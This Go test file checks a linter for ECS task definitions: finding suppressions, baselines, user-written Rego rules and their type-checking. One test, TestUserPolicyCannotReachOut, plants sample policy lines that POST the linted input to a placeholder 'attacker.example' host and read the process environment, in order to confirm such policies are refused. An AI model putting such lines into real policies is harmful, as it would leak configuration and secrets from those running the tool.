package cli_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ecslint/ecslint/internal/cli"
)

type jsonOut struct {
	Summary struct {
		Findings, Suppressed, Errors int
	}
	Findings []struct {
		Rule       string
		Suppressed *struct{ Reason, Source string }
	}
	Warnings []string
}

func decode(t *testing.T, s string) jsonOut {
	t.Helper()
	var out jsonOut
	if err := json.Unmarshal([]byte(s), &out); err != nil {
		t.Fatalf("decode: %v\n%s", err, s)
	}
	return out
}

// noRoleTask fires task-role-missing only (with --disable all --enable ...).
const noRoleTask = `{"family": "x", "containerDefinitions": [{"name": "app", "image": "nginx:1.27", "memory": 256}]}`

func TestSuppressions(t *testing.T) {
	t.Parallel()
	yesterday := time.Now().AddDate(0, 0, -2).Format(time.DateOnly)
	nextYear := time.Now().AddDate(1, 0, 0).Format(time.DateOnly)
	tests := []struct {
		name       string
		file       string // file name, decides the parser
		doc        string
		config     string
		suppressed bool
		source     string
		warning    string
	}{
		{"none", "td.json", noRoleTask, "version: 1\n", false, "", ""},
		{"config ignore", "td.json", noRoleTask, "version: 1\nignore:\n  - rule: task-role-missing\n    paths: ['**/td.json']\n    reason: batch job without AWS calls\n", true, "config", ""},
		{"config ignore by resource", "td.json", noRoleTask, "version: 1\nignore:\n  - rule: task-role-missing\n    resources: ['x*']\n    reason: legacy\n", true, "config", ""},
		{"config ignore other path", "td.json", noRoleTask, "version: 1\nignore:\n  - rule: task-role-missing\n    paths: ['other/**']\n    reason: legacy\n", false, "", ""},
		{"config ignore expired", "td.json", noRoleTask, "version: 1\nignore:\n  - rule: task-role-missing\n    reason: legacy\n    expires: " + yesterday + "\n", false, "", "expired"},
		{"config ignore not yet expired", "td.json", noRoleTask, "version: 1\nignore:\n  - rule: task-role-missing\n    reason: legacy\n    expires: " + nextYear + "\n", true, "config", ""},
		{"tag with rule list", "td.json", strings.Replace(noRoleTask, `"family": "x",`, `"family": "x", "tags": [{"key": "ecslint:ignore", "value": "image-tag-latest task-role-missing"}],`, 1), "version: 1\n", true, "tag", ""},
		{"tag with reason", "td.json", strings.Replace(noRoleTask, `"family": "x",`, `"family": "x", "tags": [{"key": "ecslint:ignore:task-role-missing", "value": "no AWS calls"}],`, 1), "version: 1\n", true, "tag", ""},
		{"describe output tags", "td.json", `{"taskDefinition": ` + noRoleTask + `, "tags": [{"key": "ecslint:ignore", "value": "task-role-missing"}]}`, "version: 1\n", true, "tag", ""},
		{"yaml comment", "td.yaml", "# ecslint:ignore task-role-missing the job makes no AWS calls\n\nfamily: x\ncontainerDefinitions:\n  - name: app\n    image: nginx:1.27\n    memory: 256\n", "version: 1\n", true, "comment", ""},
		{"yaml comment without reason", "td.yaml", "# ecslint:ignore task-role-missing\n\nfamily: x\ncontainerDefinitions:\n  - name: app\n    image: nginx:1.27\n    memory: 256\n", "version: 1\n", false, "", "without a reason"},
		{"two yaml comments without reason", "td.yaml", "# ecslint:ignore task-role-missing\n# ecslint:ignore all\n\nfamily: x\ncontainerDefinitions:\n  - name: app\n    image: nginx:1.27\n    memory: 256\n", "version: 1\n", false, "", "without a reason"},
		{"yaml comment with a future expiry", "td.yaml", "# ecslint:ignore task-role-missing batch job expires=" + nextYear + "\n\nfamily: x\ncontainerDefinitions:\n  - name: app\n    image: nginx:1.27\n    memory: 256\n", "version: 1\n", true, "comment", ""},
		{"yaml comment expired", "td.yaml", "# ecslint:ignore task-role-missing batch job expires=" + yesterday + "\n\nfamily: x\ncontainerDefinitions:\n  - name: app\n    image: nginx:1.27\n    memory: 256\n", "version: 1\n", false, "", "expired on " + yesterday},
		{"yaml comment for another rule", "td.yaml", "# ecslint:ignore image-tag-latest pinned elsewhere\n\nfamily: x\ncontainerDefinitions:\n  - name: app\n    image: nginx:1.27\n    memory: 256\n", "version: 1\n", false, "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			f := write(t, dir, tt.file, tt.doc)
			cfg := write(t, dir, ".ecslint.yaml", tt.config)
			code, stdout, stderr := run(t, "", "--config", cfg, "--disable", "all", "--enable", "task-role-missing", "--format", "json", f)
			out := decode(t, stdout)
			if len(out.Findings) != 1 {
				t.Fatalf("%d findings, want 1 (stderr %s)", len(out.Findings), stderr)
			}
			got := out.Findings[0].Suppressed
			if (got != nil) != tt.suppressed {
				t.Fatalf("suppressed = %+v, want %v", got, tt.suppressed)
			}
			wantCode := cli.ExitFindings
			if tt.suppressed {
				wantCode = cli.ExitOK
				if got.Reason == "" || !strings.HasPrefix(got.Source, tt.source) {
					t.Errorf("suppression %+v, want a reason and source %s", got, tt.source)
				}
				if out.Summary.Suppressed != 1 || out.Summary.Findings != 0 {
					t.Errorf("summary %+v", out.Summary)
				}
			}
			if code != wantCode {
				t.Errorf("exit %d, want %d", code, wantCode)
			}
			if tt.warning != "" && !strings.Contains(strings.Join(out.Warnings, "\n"), tt.warning) {
				t.Errorf("warnings %q, want one about %q", out.Warnings, tt.warning)
			}
		})
	}
}

func TestSuppressedCountedInText(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	f := write(t, dir, "td.json", noRoleTask)
	cfg := write(t, dir, ".ecslint.yaml", "version: 1\nignore:\n  - rule: task-role-missing\n    reason: legacy\n")
	_, stdout, _ := run(t, "", "--config", cfg, "--disable", "all", "--enable", "task-role-missing", f)
	if !strings.Contains(stdout, "1 suppressed") || strings.Contains(stdout, "no taskRoleArn") {
		t.Errorf("text output should count the suppressed finding and not show it:\n%s", stdout)
	}
}

func TestBaseline(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	old := write(t, dir, "old.json", noRoleTask)
	baseline := filepath.Join(dir, ".ecslint-baseline.json")
	code, stdout, stderr := run(t, "", "baseline", "--no-config", "--output", baseline, "--disable", "all", "--enable", "task-role-missing", dir)
	if code != cli.ExitOK || !strings.Contains(stdout, "recorded 1 findings") {
		t.Fatalf("baseline: exit %d\n%s%s", code, stdout, stderr)
	}
	data, _ := os.ReadFile(baseline)
	if strings.Contains(string(data), `"line"`) {
		t.Errorf("baseline must not key on lines:\n%s", data)
	}
	// Moving the finding to another line keeps it baselined.
	if err := os.WriteFile(old, []byte("\n\n\n"+noRoleTask), 0o644); err != nil {
		t.Fatal(err)
	}
	args := []string{"--no-config", "--baseline", baseline, "--disable", "all", "--enable", "task-role-missing", "--format", "json", dir}
	code, stdout, _ = run(t, "", args...)
	if code != cli.ExitOK || decode(t, stdout).Summary.Suppressed != 1 {
		t.Errorf("baselined finding reported: exit %d\n%s", code, stdout)
	}
	// A new file's finding is new.
	write(t, dir, "new.json", strings.Replace(noRoleTask, `"x"`, `"y"`, 1))
	code, stdout, _ = run(t, "", args...)
	out := decode(t, stdout)
	if code != cli.ExitFindings || out.Summary.Findings != 1 || out.Summary.Suppressed != 1 {
		t.Errorf("new finding: exit %d, summary %+v", code, out.Summary)
	}
}

const ownerRule = `# METADATA
# title: Task definitions carry an owner tag
# description: Every task definition names the team that owns it.
# related_resources:
#   - ref: https://docs.aws.amazon.com/AmazonECS/latest/developerguide/ecs-using-tags.html
# custom:
#   severity: medium
#   remediation: Add a tag with key owner.
#   resources: [task]
package ecslint.rules.reliability["acme-owner-tag"]

report contains {"message": sprintf("task definition %s has no owner tag", [input.name]), "path": ["resource"]} if {
	input.kind == "TaskDefinition"
	not _has_owner
}

_has_owner if {
	some t in input.resource.tags
	t.key == "owner"
}
`

const ownerTest = `package ecslint.rules.reliability["acme-owner-tag_test"]

import data.ecslint.rules.reliability["acme-owner-tag"] as rule

test_fail_no_tag if count(rule.report) == 1 with input as {"kind": "TaskDefinition", "name": "x", "resource": {}}

test_pass_tag if count(rule.report) == 0 with input as {"kind": "TaskDefinition", "name": "x", "resource": {"tags": [{"key": "owner", "value": "a"}]}}
`

func TestUserPolicy(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	pol := filepath.Join(dir, "policy")
	write(t, pol, "owner.rego", ownerRule)
	write(t, pol, "owner_test.rego", ownerTest)
	td := write(t, dir, "td.json", noRoleTask)

	code, stdout, stderr := run(t, "", "--no-config", "--policy", pol, "--disable", "all", "--enable", "acme-owner-tag", "--format", "sarif", td)
	if code != cli.ExitFindings || !strings.Contains(stdout, `"ruleId": "acme-owner-tag"`) || !strings.Contains(stdout, `"id": "acme-owner-tag"`) {
		t.Errorf("user rule did not run or is missing from SARIF: exit %d\n%s\n%s", code, stdout, stderr)
	}
	code, stdout, _ = run(t, "", "rules", "--policy", pol)
	if code != cli.ExitOK || !strings.Contains(stdout, "acme-owner-tag") {
		t.Errorf("rules --policy does not list the user rule:\n%s", stdout)
	}
	code, stdout, _ = run(t, "", "policy", "test", pol)
	if code != cli.ExitOK || !strings.Contains(stdout, "2 passed, 0 failed") {
		t.Errorf("policy test: exit %d\n%s", code, stdout)
	}
	write(t, pol, "broken_test.rego", strings.Replace(ownerTest, "count(rule.report) == 1", "count(rule.report) == 2", 1))
	if code, stdout, _ = run(t, "", "policy", "test", pol); code != cli.ExitFindings {
		t.Errorf("failing policy test: exit %d\n%s", code, stdout)
	}
}

// TestUserPolicyCannotReachOut proves that a policy calling builtins that
// reach the network or the process environment is rejected at load time.
func TestUserPolicyCannotReachOut(t *testing.T) {
	t.Parallel()
	calls := map[string]string{
		"http.send":          `resp := http.send({"method": "POST", "url": "https://attacker.example/", "body": input})`,
		"opa.runtime":        `env := opa.runtime().env`,
		"net.lookup_ip_addr": `ips := net.lookup_ip_addr("attacker.example")`,
	}
	for name, call := range calls {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			pol := filepath.Join(dir, "policy")
			body := strings.Replace(ownerRule, "	not _has_owner\n", "	not _has_owner\n	"+call+"\n", 1)
			write(t, pol, "evil.rego", body)
			td := write(t, dir, "td.json", noRoleTask)
			code, stdout, stderr := run(t, "", "--no-config", "--policy", pol, td)
			if code != cli.ExitError {
				t.Errorf("exit %d, want 2\n%s", code, stdout)
			}
			if !strings.Contains(stderr, name) || !strings.Contains(stderr, "does not allow") || !strings.Contains(stderr, "evil.rego:") {
				t.Errorf("stderr should name the file, line and builtin:\n%s", stderr)
			}
		})
	}
}

// TestUserPolicyTypeChecked proves user rules are type-checked against the
// input schema: a misspelt field fails at load time, naming the file.
func TestUserPolicyTypeChecked(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	pol := filepath.Join(dir, "policy")
	typo := strings.Replace(ownerRule, "	not _has_owner\n", "	not _has_owner\n	count(input.resource.containerDefinition) > 0\n", 1)
	write(t, pol, "typo.rego", typo)
	td := write(t, dir, "td.json", noRoleTask)
	code, _, stderr := run(t, "", "--no-config", "--policy", pol, td)
	if code != cli.ExitError || !strings.Contains(stderr, "containerDefinition") || !strings.Contains(stderr, "typo.rego") {
		t.Errorf("exit %d, want 2 with a type error naming the field and file:\n%s", code, stderr)
	}
	code, stdout, _ := run(t, "", "policy", "schema")
	if code != cli.ExitOK || !strings.Contains(stdout, `"containerDefinitions"`) {
		t.Errorf("policy schema: exit %d", code)
	}
}
